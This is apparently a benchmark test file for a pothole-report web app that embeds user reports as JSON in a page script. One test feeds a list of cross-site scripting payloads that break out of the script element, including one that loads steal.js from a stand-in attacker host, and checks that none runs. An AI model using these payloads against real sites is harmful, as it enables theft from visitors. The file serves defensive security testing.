import json
import re
from html.parser import HTMLParser
from typing import Any

from eval.bench.testing import PythonTarget, check, check_equal, require


class Elements(HTMLParser):
    """Collects the start tags of a page, and its script elements as (attributes, content)."""

    def __init__(self, page: str):
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        # Browsers end a script at </script, whatever attributes follow; not every html.parser does.
        self.feed(re.sub(r"</(script)[\t\n\f\r /][^>]*>", r"</\1>", page, flags=re.IGNORECASE))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self.scripts.append((dict(attrs), ""))

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script":
            attributes, content = self.scripts[-1]
            self.scripts[-1] = (attributes, content + data)


def page_after(program: PythonTarget, street: str, remark: str) -> Elements:
    program.http("POST", "/reports", form={"street": street, "remark": remark})
    reply = program.http("GET", "/map")
    if reply.status != 200:
        # What it makes of this report must not hide the next.
        program.restart()
    return Elements(reply.text)


def reports_in(page: Elements) -> Any:
    """Return the reports that the page hands over, or None if there is no sense in them."""
    data = [content for attributes, content in page.scripts if attributes.get("id") == "reports"]
    try:
        return json.loads(data[0]) if len(data) == 1 else None
    except ValueError:
        return None


def runs(attributes: dict[str, str | None]) -> bool:
    """Return whether an element with these attributes runs `steal()`, or a script of that name."""
    code = {name: (value or "").strip() for name, value in attributes.items()}
    handlers = [name for name in code if name.startswith("on") and code[name].startswith("steal()")]
    source = code.get("src", "")
    return bool(handlers) or source.startswith("javascript:steal()") or source.endswith("/steal.js")


def functional_hands_over_reports(program: PythonTarget) -> None:
    first = {"street": "Mill Lane", "remark": "deep"}
    second = {"street": "King's Square", "remark": 'by the "Caf\u00e9", > 1 m wide & < 20 cm deep'}
    check_equal(reports_in(page_after(program, **first)), [first])
    page = page_after(program, **second)
    check_equal(reports_in(page), [first, second])
    check_equal(program.http("GET", "/map").status, 200, "status")


def functional_has_both_scripts(program: PythonTarget) -> None:
    reply = program.http("GET", "/map")
    check((reply.header("Content-Type") or "").startswith("text/html"), "it is not HTML")
    page = Elements(reply.text)
    check_equal(reports_in(page), [], "reports of a town without potholes")
    odd = {"street": "", "remark": "line 1\nline 2\\n \\ / \u2028 </ <b \u00e4 &lt; {{ 1 }} %s"}
    page = page_after(program, **odd)
    check_equal([{key: text.replace("\r", "") for key, text in odd.items()}], reports_in(page))
    data, script = page.scripts[0][0], page.scripts[-1][0]
    check_equal(data.get("type"), "application/json", "type of the data")
    check_equal(script.get("src"), "/static/map.js", "the last script")
    check_equal([tag for tag, _ in page.tags].count("script"), 2, "number of scripts")


def exploit_injects_markup(program: PythonTarget) -> None:
    first = {"street": "Mill Lane", "remark": "deep"}
    require(reports_in(page_after(program, **first)) == [first], "a report is not handed over")
    for attack in (
        "</script><script>steal()</script>",
        "</script><img src=x onerror=steal()>",
        "</SCRIPT><svg onload=steal()>",
        "</sCrIpT ><svg onload=steal()>",
        "</scr</script>ipt><img src=x onerror=steal()>",
        "</scr</scr</script>ipt>ipt><img src=x onerror=steal()>",
        "</scr</scriptipt><img src=x onerror=steal()>",
        "<</script/script><img src=x onerror=steal()>",
        "<</script>/script><img src=x onerror=steal()>",
        "</script\n><img src=x onerror=steal()>",
        "</script\t><img src=x onerror=steal()>",
        "</script/><img src=x onerror=steal()>",
        "</script x><img src=x onerror=steal()>",
        "</script><script type=module>steal()</script>",
        "</script><iframe src=javascript:steal()></iframe>",
        "</script><script src=//evil.example/steal.js></script>",
        '"}]</script><script>steal()//',
        "<!--<script></script></script><img src=x onerror=steal()>",
        "\\u003c/script>\\x3c/script>&lt;/script><img src=x onerror=steal()>",
    ):
        for street, remark in (("Mill Lane", attack), (attack, "deep")):
            page = page_after(program, street, remark)
            for tag, attributes in page.tags:
                check(not runs(attributes), f"{attack!r} gives <{tag}> {attributes}")
            for attributes, content in page.scripts:
                runs_it = content.lstrip().startswith("steal()")
                check(not runs_it, f"{attack!r} gives <script> {attributes} {content!r:.200}")
